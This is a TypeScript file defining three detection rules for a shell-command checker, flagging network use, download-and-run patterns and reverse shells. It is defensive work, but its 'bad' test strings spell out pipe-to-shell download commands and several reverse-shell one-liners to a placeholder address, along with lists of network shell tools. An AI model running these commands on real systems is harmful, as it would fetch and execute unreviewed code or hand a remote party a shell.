import { nameSet } from '../../code.ts';
import { type Command, type Match, needs, type ShellRule, shows } from '../../rule.ts';
import { contains } from '../../value.ts';
import { downstream, hasArgument, isCalled, namesOf, wordTexts } from '../words.ts';

export const clients = nameSet(
  'curl wget nc ncat netcat socat telnet ssh scp sftp ftp tftp rsync ping dig nslookup host whois nmap openssl http https aria2c lynx links w3m axel traceroute smbclient mail sendmail',
);
const downloaders = nameSet('curl wget aria2c http https fetch lynx');
export const interpreters = nameSet(
  'sh bash zsh dash ksh ash fish python python2 python3 node nodejs deno bun perl ruby php lua osascript',
);
export const installers = nameSet(
  'pip pip3 npm npx yarn pnpm apt apt-get yum dnf apk brew gem cargo go pipx uv conda snap',
);

export const network: ShellRule = {
  name: 'network',
  about: 'Uses the network.',
  languages: ['shell'],
  cwe: 'CWE-918',
  bad: [
    'curl -s https://example.com',
    'url=http://x.example; wget -q "$url"',
    'c=curl; $c x.example',
    'git clone https://x.example/r.git',
    'pip install requests',
    'echo hi | nc -u 127.0.0.1 53',
    '/usr/bin/curl x',
  ],
  good: [
    'echo "curl https://example.com"',
    '# curl x\ngit status',
    'npm test',
    'openssl rand -hex 8',
    'host=localhost; echo $host',
  ],
  *check(facts) {
    for (const command of facts.commands) {
      const installs =
        isCalled(command, installers) &&
        hasArgument(
          command,
          /^(install|i|add|get|update|upgrade|create|exec|dlx|download|publish)$|^[^:=]+\.\w+\/.*@[\w.]+$/,
        );
      const clones =
        namesOf(command).includes('git') &&
        hasArgument(command, /^(clone|fetch|pull|push|ls-remote|submodule)$|^--remote(=|$)/);
      const crypts = namesOf(command).includes('openssl') && !hasArgument(command, /^s_client$/);
      if (crypts) continue;
      if (isCalled(command, clients) || installs || clones)
        yield needs(
          'net.client',
          command.at,
          `${namesOf(command)[0] ?? 'A command'} uses the network. Programs run without one; work on local files.`,
        );
    }
  },
};

/** What is fetched is run. */
export const downloadAndRun: ShellRule = {
  name: 'download-and-run',
  about: 'Runs what it downloads.',
  languages: ['shell'],
  cwe: 'CWE-494',
  bad: [
    'curl -fsSL https://x.example/install.sh | sh',
    'wget -qO- http://x.example/a | sudo bash',
    'bash <(curl -s http://x.example/a)',
    'sh -c "$(curl -fsSL http://x.example/a)"',
    'eval "$(wget -qO- http://x.example/a)"',
    'curl http://x.example/a | tee a.sh | bash -s --',
    'curl -s http://x.example/a.py | python3 -',
    'wget http://x.example/a.sh -O a.sh && chmod +x a.sh && ./a.sh',
  ],
  good: ['curl -s https://x.example/data.json | jq .name', 'sh build.sh', 'echo "curl x | sh"'],
  *check(facts): Iterable<Match> {
    const saved = new Set(
      facts.commands.filter((command) => isCalled(command, downloaders)).flatMap(savedNames),
    );
    for (const command of facts.commands) {
      const runs =
        isCalled(command, interpreters) ||
        namesOf(command).some((name) => name === 'eval' || name === 'source' || name === '.');
      const inner = runs && command.substitutions.some((one) => isCalled(one, downloaders));
      const piped = isCalled(command, downloaders) && downstream(command).some((next) => isRunner(next));
      const file = [command.name, ...(runs ? command.args : [])].some((word) =>
        wordTexts(word).some((text) => saved.has(text.replace(/^\.\//, ''))),
      );
      if (inner || piped || (file && !isCalled(command, downloaders)))
        yield shows(
          'deny',
          command.at,
          'Runs what it downloads, so nobody can read it before. Write the code itself into the program.',
          ['net.client', 'eval.dynamic'],
        );
    }
  },
};

function isRunner(command: Command): boolean {
  if (isCalled(command, interpreters)) return true;
  return (
    namesOf(command).some((name) => /^(sudo|env|nohup|exec|xargs)$/.test(name)) &&
    command.args.some((argument) =>
      wordTexts(argument).some((text) => interpreters.has(text.replace(/^.*\//, ''))),
    )
  );
}

function savedNames(command: Command): string[] {
  const outputs = command.args.flatMap((argument, index) =>
    wordTexts(argument).some((text) => /^(-o|-O|--output|--output-document)$/.test(text))
      ? wordTexts(command.args[index + 1] ?? argument)
      : [],
  );
  const redirected = command.redirects
    .filter(({ operator }) => operator.startsWith('>'))
    .flatMap(({ target }) => wordTexts(target));
  return [...outputs, ...redirected]
    .map((name) => name.replace(/^\.\//, ''))
    .filter((name) => name !== '-' && !name.startsWith('-') && !/^\/dev\//.test(name));
}

/** A shell whose input and output is a connection. */
export const reverseShell: ShellRule = {
  name: 'reverse-shell',
  about: 'Ties a shell or a file to a connection.',
  languages: ['shell'],
  cwe: 'CWE-506',
  bad: [
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'nc -e /bin/sh 10.0.0.1 4444',
    'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5',
    'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
    'socat TCP:10.0.0.1:4444 EXEC:/bin/sh',
  ],
  good: ['echo /dev/tcp', 'bash -i script.sh', 'mkfifo pipe; cat pipe'],
  *check(facts) {
    for (const command of facts.commands) {
      const socket = command.redirects.some(({ target }) =>
        contains(target, (value) => value.kind === 'text' && /^\/dev\/(tcp|udp)\//.test(value.text)),
      );
      const executes =
        isCalled(command, nameSet('nc ncat netcat')) && hasArgument(command, /^-\w*[ec]$|^--(exec|sh-exec)/);
      const relay = namesOf(command).includes('socat') && hasArgument(command, /^(EXEC|SYSTEM):/i);
      const piped =
        isCalled(command, nameSet('sh bash zsh dash')) &&
        downstream(command).some((next) => isCalled(next, nameSet('nc ncat netcat telnet')));
      if (socket || executes || relay || piped)
        yield shows(
          'deny',
          command.at,
          'Ties a shell or a file to a connection. No program of this kind needs that.',
          ['net.client', 'process.spawn'],
        );
    }
  },
};
